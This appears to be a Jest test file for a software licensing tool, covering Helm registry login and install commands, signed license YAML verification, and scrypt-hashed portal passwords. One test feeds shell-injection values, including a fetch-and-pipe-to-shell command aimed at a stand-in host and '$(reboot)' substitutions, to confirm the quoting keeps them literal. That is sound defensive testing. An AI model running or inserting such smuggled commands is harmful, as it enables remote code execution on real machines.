import { execFileSync } from 'child_process';
import { generateKeyPairSync } from 'crypto';
import YAML from 'yaml';
import { helmInstructions } from './helmInstructions';
import {
  licenseFileName,
  signedLicenseYaml,
  verifyLicenseYaml,
} from './licenseDocument';
import {
  generatePortalPassword,
  hashPortalPassword,
  verifyPortalPassword,
} from './portalPassword';

const helm = {
  customerName: 'Acme Corp',
  email: 'ops@acme.example.com',
  licenseId: 'lic-123',
  appSlug: 'nimbus',
  channelSlug: 'stable',
  helmInstall: true,
  latestVersion: '2.3.0',
  registryHost: 'registry.example.com',
  chartName: 'nimbus-chart',
};

describe('helmInstructions', () => {
  it('leaves the channel out for Stable and keeps it otherwise', () => {
    expect(helmInstructions(helm)).toMatchObject({
      registryLogin:
        "helm registry login 'registry.example.com' --username 'ops@acme.example.com' --password 'lic-123'",
      install:
        "helm install 'nimbus' 'oci://registry.example.com/nimbus/nimbus-chart' --version '2.3.0'",
    });
    expect(helmInstructions({ ...helm, channelSlug: 'beta' }).install).toBe(
      "helm install 'nimbus' 'oci://registry.example.com/nimbus/beta/nimbus-chart' --version '2.3.0'",
    );
  });

  it('quotes every value so that hostile ones stay one literal argument in a POSIX shell', () => {
    const hostile = {
      ...helm,
      licenseId: "lic-1'; curl https://evil.example | sh; #",
      latestVersion: '1.0.0 $(reboot) `id`',
      email: 'ops@acme.example.com;id',
    };
    const { registryLogin, install } = helmInstructions(hostile);
    // A real shell parses each command: every value arrives as one argument.
    const argv = (command: string) =>
      execFileSync(
        'sh',
        ['-c', `printf '%s\\n' ${command.replace(/^helm /, '')}`],
        { encoding: 'utf8' },
      ).split('\n');
    expect(argv(registryLogin)).toEqual([
      'registry',
      'login',
      'registry.example.com',
      '--username',
      'ops@acme.example.com;id',
      '--password',
      "lic-1'; curl https://evil.example | sh; #",
      '',
    ]);
    expect(argv(install)).toEqual([
      'install',
      'nimbus',
      'oci://registry.example.com/nimbus/nimbus-chart',
      '--version',
      '1.0.0 $(reboot) `id`',
      '',
    ]);
  });

  it('leaves the license ID to an environment variable when it is withheld', () => {
    const { registryLogin, notes } = helmInstructions({
      ...helm,
      licenseId: null,
    });
    expect(registryLogin).toBe(
      `helm registry login 'registry.example.com' --username 'ops@acme.example.com' --password "$LICENSE_ID"`,
    );
    expect(registryLogin).not.toContain('lic-123');
    expect(notes[0]).toContain('only license admins see');
  });

  it('explains why there are no instructions', () => {
    expect(() => helmInstructions({ ...helm, email: null })).toThrow(
      'Acme Corp has no email address',
    );
    expect(() => helmInstructions({ ...helm, helmInstall: false })).toThrow(
      'Helm install is not enabled for Acme Corp',
    );
  });
});

describe('license document', () => {
  const { privateKey, publicKey } = generateKeyPairSync('ed25519');
  const spec = {
    customerId: 'c1',
    customerName: 'Acme Corp',
    email: null,
    appSlug: 'nimbus',
    channel: 'stable',
    licenseType: 'paid',
    licenseId: 'lic-123',
    createdAt: '2024-06-01T09:00:00.000Z',
    expiresAt: null,
    entitlements: { gitops: true, airgap: false },
    customFields: [{ name: 'seats', value: '50' }],
  };

  it('verifies with the public key and fails once tampered with', () => {
    const document = signedLicenseYaml(
      spec,
      privateKey.export({ format: 'pem', type: 'pkcs8' }).toString(),
      '2024-07-01T00:00:00.000Z',
    );
    const pem = publicKey.export({ format: 'pem', type: 'spki' }).toString();
    expect(verifyLicenseYaml(document, pem)).toBe(true);
    const parsed = YAML.parse(document);
    expect(parsed.spec.entitlements).toEqual({ airgap: false, gitops: true });
    parsed.spec.licenseType = 'trial';
    expect(verifyLicenseYaml(YAML.stringify(parsed), pem)).toBe(false);
  });

  it('names the file after the customer', () => {
    expect(licenseFileName('Acme, Inc.')).toBe('acme-inc-license.yaml');
  });
});

describe('portal password', () => {
  it('generates long random passwords and verifies only the right one against the hash', async () => {
    const password = generatePortalPassword();
    expect(password).toHaveLength(24);
    expect(generatePortalPassword()).not.toBe(password);
    const hash = await hashPortalPassword(password);
    expect(hash).not.toContain(password);
    expect(hash.startsWith('scrypt$16384$8$1$')).toBe(true);
    await expect(verifyPortalPassword(password, hash)).resolves.toBe(true);
    await expect(verifyPortalPassword(`${password}x`, hash)).resolves.toBe(
      false,
    );
    // Salted: the same password hashes differently each time.
    expect(await hashPortalPassword(password)).not.toBe(hash);
  });
});
